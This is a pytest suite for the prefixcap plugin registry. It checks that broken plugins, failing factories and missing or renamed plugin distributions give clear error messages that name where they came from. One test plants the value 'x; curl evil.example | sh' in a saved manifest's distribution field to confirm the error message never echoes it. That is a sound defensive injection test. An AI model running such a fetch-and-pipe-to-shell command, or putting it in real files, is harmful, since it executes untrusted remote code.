"""Errors that name their origin: a plugin that breaks is said to be broken, by name, wherever its absence shows.

Throwaway distributions installed for real (pip --target, conftest.install_distribution): one whose entry points
break in the quieter ways (a hook that registers then raises, no @hookimpl, an async hook, a factory with a bug, a
name too long for a table), and one plugin in three versions (good, failing to import, renamed) that a saved system
was made with.
"""

from __future__ import annotations

import json
import re
import shutil
import sys

import pytest

import prefixcap
from prefixcap.errors import CompositionError, RecipeError, SavedSystemError, UnknownComponentError
from prefixcap.registry import get_component, list_components, reload_registry

from conftest import PLUGIN_DIST, install_distribution, plugin_pyproject, run_cli

ERRORS_DIST = "prefixcap-errorsplugin"
LONG_NAME = "connector-with-a-name-too-long-for-a-table-cell"
ERRORS_FILES = {
    "pyproject.toml": plugin_pyproject(ERRORS_DIST, "0.2.0", "pcap_errors", {
        name: f"pcap_errors.{name}" for name in ("good", "half", "swallowed", "bare", "unmarked", "asynchook",
                                                  "typo")}),  # fmt: skip
    "pcap_errors/__init__.py": "",
    "pcap_errors/good.py": f"""
        from prefixcap import hookimpl
        from prefixcap.connectors import LinearOptions

        @hookimpl
        def register_connectors(register):
            register("buggy-linear", factory="pcap_errors.model:with_a_bug", options=LinearOptions,
                     description="a factory with a bug in it")
            register("wrong-linear", factory="pcap_errors.model:refuses", options=LinearOptions,
                     description="a factory that refuses its options")
            register("{LONG_NAME}", factory="prefixcap.connectors.linear:LinearConnector", options=LinearOptions,
                     description="the builtin linear connector under a long name, described at length so that its "
                                 "description_has_a_rather_long_word_in_it too")
    """,
    "pcap_errors/model.py": """
        def with_a_bug(options, **wiring):
            return {}["hidden"]

        def refuses(options, **wiring):
            raise ValueError("this connector needs in_dim to be even")
    """,
    "pcap_errors/half.py": """
        from prefixcap import hookimpl
        from prefixcap.connectors import LinearOptions

        @hookimpl
        def register_connectors(register):
            register("half-linear", factory="prefixcap.connectors.linear:LinearConnector", options=LinearOptions,
                     description="registered, and then its hook raised")
            raise RuntimeError("the second connector needs libbaz")
    """,
    "pcap_errors/swallowed.py": """
        from prefixcap import hookimpl

        @hookimpl
        def register_decoders(register):
            register("kept-quiet", factory="pcap_errors.model:refuses", description="registered beside a refused one")
            try:
                register("Not Valid", factory="pcap_errors.model:refuses")
            except Exception:
                pass  # the plugin hides register's refusal: prefixcap must not
    """,
    "pcap_errors/bare.py": """
        def helper():
            return "a plugin module with no hook at all"
    """,
    "pcap_errors/unmarked.py": """
        from prefixcap import hookimpl

        @hookimpl
        def register_encoders(register):
            pass

        def register_connectors(register):  # @hookimpl forgotten
            register("never-called", factory="pcap_errors.model:refuses")
    """,
    "pcap_errors/asynchook.py": """
        from prefixcap import hookimpl

        @hookimpl
        async def register_losses(register):
            register("never-awaited", factory="pcap_errors.model:refuses")
    """,
    "pcap_errors/typo.py": """
        from prefixcap import hookimpl

        @hookimpl
        def register_decoder(register):  # the hook is register_decoders
            register("mistyped", factory="pcap_errors.model:refuses")
    """,
}

SAVED_DIST = "prefixcap-savedplugin"


def saved_plugin_files(version: str, plugin: str) -> dict[str, str]:
    return {"pyproject.toml": plugin_pyproject(SAVED_DIST, version, "pcap_saved", {"plugin": "pcap_saved.plugin"}),
            "pcap_saved/__init__.py": "", "pcap_saved/plugin.py": plugin}  # fmt: skip


REGISTERS = """
    from prefixcap import hookimpl
    from prefixcap.connectors import LinearOptions

    @hookimpl
    def register_connectors(register):
        register("{name}", factory="prefixcap.connectors.linear:LinearConnector", options=LinearOptions,
                 description="the builtin linear connector, from a plugin")
"""
SAVED_VERSIONS = {
    "good": saved_plugin_files("0.1.0", REGISTERS.format(name="saved-linear")),
    "failing": saved_plugin_files("0.1.1", 'raise ImportError("this version needs libbar")\n'),
    "renamed": saved_plugin_files("0.3.0", REGISTERS.format(name="renamed-linear")),
}


@pytest.fixture(scope="module")
def errors_site(tmp_path_factory):
    return install_distribution(ERRORS_FILES, tmp_path_factory.mktemp("errors-src"),
                                tmp_path_factory.mktemp("errors-site"))  # fmt: skip


@pytest.fixture(scope="module")
def saved_sites(tmp_path_factory):
    return {what: install_distribution(files, tmp_path_factory.mktemp(f"saved-{what}-src"),
                                       tmp_path_factory.mktemp(f"saved-{what}-site"))
            for what, files in SAVED_VERSIONS.items()}  # fmt: skip


def load_plugins(monkeypatch, *sites, load: str):
    """Put ``sites`` on the path and load the plugins ``load`` names. The saved plugin's modules are forgotten first:
    each version of it is a different install, as it would be in a new process, not the module already imported."""
    for name in [n for n in sys.modules if n.split(".")[0] == "pcap_saved"]:
        monkeypatch.delitem(sys.modules, name)
    for site in sites:
        monkeypatch.syspath_prepend(str(site))
    monkeypatch.setenv("PREFIXCAP_LOAD_PLUGINS", load)
    return reload_registry()


@pytest.fixture
def errors_registry(errors_site, monkeypatch):
    return load_plugins(monkeypatch, errors_site, load=ERRORS_DIST)


def broken(reg) -> dict[str, str]:
    return {b.provider.plugin: b.error for b in reg.broken}


# --- loading: the quiet ways a plugin breaks are recorded ------------------------------------------------------------


def test_a_hook_that_registers_and_then_raises_registers_nothing(errors_registry):
    """Its registration used to stay: listed, usable in recipes, failing only when built."""
    assert broken(errors_registry)["half"] == (
        "register_connectors failed: RuntimeError: the second connector needs libbaz (half.py:8); so what it "
        "registered is withdrawn (connector 'half-linear')")
    assert "half-linear" not in {r.name for r in list_components("connector")}
    with pytest.raises(UnknownComponentError, match="the second connector needs libbaz"):
        get_component("connector", "half-linear")
    assert get_component("connector", "buggy-linear").provider.plugin == "good"  # its other plugins still load


def test_a_registration_refused_is_a_broken_plugin_even_if_the_hook_swallows_the_error(errors_registry):
    assert broken(errors_registry)["swallowed"] == (
        "register_decoders failed: PluginError: invalid decoder name 'Not Valid': use lowercase letters, digits, "
        "'.', '_' or '-'; so what it registered is withdrawn (decoder 'kept-quiet')")
    assert "kept-quiet" not in {r.name for r in list_components("decoder")}


def test_a_plugin_module_without_hookimpl_is_broken_not_silent(errors_registry):
    errors = broken(errors_registry)
    hooks = ("register_encoders, register_connectors, register_decoders, register_losses, register_systems, "
             "register_datasets")  # fmt: skip
    assert errors["bare"] == (f"pcap_errors.bare implements none of prefixcap's hooks ({hooks}), so it registers "
                              "nothing; mark each hook function with @hookimpl (`from prefixcap import hookimpl`)")
    assert errors["unmarked"] == ("pcap_errors.unmarked defines register_connectors without @hookimpl, so prefixcap "
                                  "never calls it; mark each hook function with @hookimpl (`from prefixcap import "
                                  "hookimpl`)")  # fmt: skip
    assert errors["asynchook"] == ("register_losses returned a coroutine and registered nothing; a hook is a plain "
                                   "function (not async, no yield) that calls register(...) once per component")


def test_a_refused_registration_points_at_the_plugins_line_not_prefixcaps(with_plugin):
    assert broken(with_plugin)["bad_registration"].endswith("(bad_registration.py:5)")


# --- an unknown name mentions the broken plugins that may have provided it ------------------------------------------


def test_unknown_name_mentions_the_broken_plugins_of_its_kind(with_plugin):
    with pytest.raises(UnknownComponentError) as e:
        get_component("decoder", "neox")
    message = str(e.value)
    assert message.startswith(f"unknown decoder 'neox'; it may come from one of 2 plugins that failed to load (see "
                              f"`prefixcap plugins`): {PLUGIN_DIST} 0.3.1 (plugin broken_import): cannot load "
                              "pcap_testplugin.broken_import: ImportError: this plugin needs libfoo")  # fmt: skip
    assert f"{PLUGIN_DIST} 0.3.1 (plugin bad_registration): register_decoders failed" in message  # a decoder hook
    assert "hook exploded" not in message and "clashes" not in message  # a loss hook; a clash hides no name
    assert message.endswith("(registered decoders: causal-lm, phi, qwen2, smollm)")
    with pytest.raises(UnknownComponentError) as e:
        get_component("loss", "focal")
    assert "register_losses failed: RuntimeError: hook exploded" in str(e.value)
    assert "invalid decoder name" not in str(e.value)
    # through a recipe too, on the name's line
    with pytest.raises(RecipeError, match=r"^decoder.name: unknown decoder 'neox'; it may come from one of 2 plugins"):
        prefixcap.load_recipe({"decoder": {"name": "neox"}})


def test_a_misspelt_hook_is_suspected_for_its_own_kind_only(errors_registry):
    with pytest.raises(UnknownComponentError) as e:
        get_component("decoder", "mistyped")
    assert "pcap_errors.typo implements register_decoder, which prefixcap does not call" in str(e.value)
    with pytest.raises(UnknownComponentError) as e:
        get_component("system", "nothing-like-it")
    assert "register_decoder," not in str(e.value)
    assert "implements none of prefixcap's hooks" in str(e.value)  # bare: what it meant to provide is unknown


def test_an_unknown_name_with_no_broken_plugin_is_as_before():
    with pytest.raises(UnknownComponentError) as e:
        get_component("decoder", "neox")
    assert str(e.value) == "unknown decoder 'neox' (registered decoders: causal-lm, phi, qwen2, smollm)"


# --- building: a third-party factory's failure names its distribution -----------------------------------------------


@pytest.mark.parametrize(("name", "says"), [
    ("buggy-linear", "failed to build: KeyError: 'hidden'; report it to the authors of prefixcap-errorsplugin"),
    ("wrong-linear", ": this connector needs in_dim to be even"),
], ids=["a-bug", "a-refusal"])  # fmt: skip
def test_a_plugin_factory_that_fails_names_its_distribution(errors_registry, name, says):
    recipe = {"encoder": {"name": "siglip", "checkpoint": "tiny"}, "connector": {"name": name},
              "decoder": {"name": "smollm", "checkpoint": "tiny"}}  # fmt: skip
    with pytest.raises(CompositionError) as e:
        prefixcap.compose(recipe, weights="none")
    assert str(e.value).startswith(f"connector {name!r} (from {ERRORS_DIST} 0.2.0)")
    assert says in str(e.value)


# --- loading a saved system whose plugin is not here ----------------------------------------------------------------


@pytest.fixture(scope="module")
def saved(saved_sites, tmp_path_factory):
    """A tiny system saved with prefixcap-savedplugin 0.1.0's connector."""
    with pytest.MonkeyPatch.context() as patch:
        load_plugins(patch, saved_sites["good"], load=SAVED_DIST)
        system = prefixcap.compose({"encoder": {"name": "siglip", "checkpoint": "tiny"}, "connector": "saved-linear",
                                    "decoder": {"name": "smollm", "checkpoint": "tiny"}})  # fmt: skip
        directory = system.save(tmp_path_factory.mktemp("saved") / "final")
    reload_registry()
    manifest = json.loads((directory / "manifest.json").read_text())
    assert manifest["components"]["connector"]["distribution"] == SAVED_DIST
    return directory


def load_error(directory) -> str:
    with pytest.raises(SavedSystemError) as e:
        prefixcap.load(directory)
    return str(e.value)


def test_loading_without_the_plugin_names_the_distribution_to_install(saved, monkeypatch):
    origin = f"{saved}: its connector 'saved-linear' came from {SAVED_DIST} 0.1.0"
    assert load_error(saved) == f"{origin}, which is not installed: pip install {SAVED_DIST}"
    monkeypatch.setenv("PREFIXCAP_LOAD_PLUGINS", SAVED_DIST)  # asked for, and still not installed
    reload_registry()
    assert load_error(saved) == f"{origin}, which is not installed: pip install {SAVED_DIST}"


def test_loading_with_the_plugin_broken_or_left_out_or_renamed_says_so(saved, saved_sites, monkeypatch):
    origin = f"{saved}: its connector 'saved-linear' came from {SAVED_DIST} 0.1.0"
    with monkeypatch.context() as patch:
        load_plugins(patch, saved_sites["failing"], load=SAVED_DIST)
        assert load_error(saved) == (f"{origin}, which failed to load: cannot load pcap_saved.plugin: ImportError: "
                                     "this version needs libbar (plugin.py:1)")  # fmt: skip
    with monkeypatch.context() as patch:
        load_plugins(patch, saved_sites["good"], load="")
        assert load_error(saved) == (f"{origin}, which is installed but not loaded: PREFIXCAP_LOAD_PLUGINS leaves it "
                                     f"out; add {SAVED_DIST} to it (or unset it to load every installed plugin)")
    with monkeypatch.context() as patch:
        load_plugins(patch, saved_sites["renamed"], load=SAVED_DIST)
        assert load_error(saved) == (f"{origin}, but the {SAVED_DIST} installed (0.3.0) registers none of that name: "
                                     f"pip install '{SAVED_DIST}==0.1.0'")  # fmt: skip
    with monkeypatch.context() as patch:
        load_plugins(patch, saved_sites["good"], load=SAVED_DIST)
        assert type(prefixcap.load(saved).connector).__name__ == "LinearConnector"  # and with it, it loads


def test_a_manifests_distribution_is_repeated_only_if_it_is_a_name(saved, tmp_path):
    copy = shutil.copytree(saved, tmp_path / "final")
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["components"]["connector"]["distribution"] = "x; curl evil.example | sh"
    (copy / "manifest.json").write_text(json.dumps(manifest))
    message = load_error(copy)
    assert "curl" not in message
    assert message == (f"{copy}: unknown connector 'saved-linear'; did you mean 'linear'? (registered connectors: "
                       "linear, mlp, qformer-lite)")
    manifest["components"]["connector"].update(distribution="prefixcap", version="9.9")  # a newer prefixcap's
    (copy / "manifest.json").write_text(json.dumps(manifest))
    assert load_error(copy) == (f"{copy}: its connector 'saved-linear' came from prefixcap 9.9, and this prefixcap "
                                f"({prefixcap.__version__}) has no connector of that name: pip install 'prefixcap==9.9'")


def test_a_manifests_recipe_errors_name_the_manifest_not_a_dict(saved, saved_sites, monkeypatch, tmp_path):
    copy = shutil.copytree(saved, tmp_path / "final")
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["recipe"]["connector"]["no_such_option"] = 1
    (copy / "manifest.json").write_text(json.dumps(manifest))
    load_plugins(monkeypatch, saved_sites["good"], load=SAVED_DIST)
    message = load_error(copy)
    assert message.startswith(f"{copy / 'manifest.json'}: recipe: connector.no_such_option: unknown option "
                               "'no_such_option'")
    assert "<dict>" not in message


def test_the_cli_says_which_distribution_a_saved_system_needs(saved, tmp_path):
    from PIL import Image

    Image.new("RGB", (8, 8), "red").save(tmp_path / "red.png")
    done = run_cli("caption", str(saved.parent), str(tmp_path / "red.png"))
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert done.stderr.strip() == (f"error: {saved}: its connector 'saved-linear' came from {SAVED_DIST} 0.1.0, "
                                   f"which is not installed: pip install {SAVED_DIST}")  # fmt: skip


# --- the CLI: broken plugins are never silent -----------------------------------------------------------------------


def test_run_and_bench_warn_once_per_broken_plugin(plugin_site, tmp_path):
    env = {"PYTHONPATH": str(plugin_site), "PREFIXCAP_LOAD_PLUGINS": PLUGIN_DIST}
    for args in (["run", "no-such-recipe"], ["bench", "--compare", "no-such-recipe", "--out", str(tmp_path)]):
        done = run_cli(*args, env=env)
        warnings = [line for line in done.stderr.splitlines() if line.startswith("warning: broken plugin")]
        assert [w.split(":")[1] for w in warnings] == [f" broken plugin {PLUGIN_DIST} 0.3.1 (plugin {p})" for p in
                                                      ("broken_import", "clash", "bad_registration", "raising_hook")]
        assert "this plugin needs libfoo" in warnings[0]
        assert done.returncode == 2 and "no-such-recipe: no such recipe" in done.stderr, done.stderr
    quiet = run_cli("run", "no-such-recipe")  # builtins only: nothing to warn about
    assert "warning" not in quiet.stderr and quiet.returncode == 2


def test_plugins_exits_1_naming_each_broken_plugin_in_table_and_json(errors_site, plugin_site):
    env = {"PYTHONPATH": f"{errors_site}:{plugin_site}", "PREFIXCAP_LOAD_PLUGINS": f"{ERRORS_DIST},{PLUGIN_DIST}"}
    as_json = run_cli("plugins", "--json", env=env)
    assert as_json.returncode == 1
    data = json.loads(as_json.stdout)  # valid JSON, then exit 1
    assert {(b["distribution"], b["plugin"]) for b in data["broken"]} == {
        *((ERRORS_DIST, p) for p in ("half", "swallowed", "bare", "unmarked", "asynchook", "typo")),
        *((PLUGIN_DIST, p) for p in ("broken_import", "clash", "bad_registration", "raising_hook"))}
    table = run_cli("plugins", "--kind", "system", env=env)  # listing one kind: the broken still count
    assert table.returncode == 1
    assert table.stderr.strip() == (
        f"10 broken plugins: {ERRORS_DIST} 0.2.0 (bare, typo, unmarked, half, swallowed, asynchook); {PLUGIN_DIST} "
        "0.3.1 (broken_import, clash, bad_registration, raising_hook). Fix or uninstall them, or leave them out with "
        "PREFIXCAP_LOAD_PLUGINS")
    fine = run_cli("plugins", "--json")
    assert fine.returncode == 0 and json.loads(fine.stdout)["broken"] == []


@pytest.mark.parametrize("plugins", ["none", "broken and long"])
def test_plugins_at_80_columns_never_splits_a_name(plugins, errors_site, plugin_site):
    """The table used to fold `prefixcap-testpl` / `ugin` at 80 columns; now a name, kind or distribution is always
    whole on its line, and so is every word of a description (it wraps at spaces), in the table or, when that cannot
    fit, the listing below it."""
    env = {"COLUMNS": "80"} if plugins == "none" else {
        "COLUMNS": "80", "PYTHONPATH": f"{errors_site}:{plugin_site}",
        "PREFIXCAP_LOAD_PLUGINS": f"{ERRORS_DIST},{PLUGIN_DIST}"}  # fmt: skip
    data = json.loads(run_cli("plugins", "--json", env=env).stdout)
    shown = run_cli("plugins", env=env)
    assert "Traceback" not in shown.stderr and shown.stdout.strip(), shown.stderr
    lines = shown.stdout.splitlines()
    assert max(len(line) for line in lines) <= 80
    words = {w for line in lines for w in line.replace("│", " ").split()}
    whole = [c[key] for c in data["components"] for key in ("kind", "name", "distribution", "version")]
    whole += [b[key] for b in data["broken"] for key in ("plugin", "distribution", "version")]
    assert set(whole) <= words, sorted(set(whole) - words)
    described = {w for c in data["components"] for w in c["description"].split()}
    described |= {w for b in data["broken"] for w in b["error"].split()}
    assert described <= words, sorted(described - words)
    if plugins != "none":
        assert LONG_NAME in words and any(re.match(rf"connector +{LONG_NAME}", line) for line in lines)
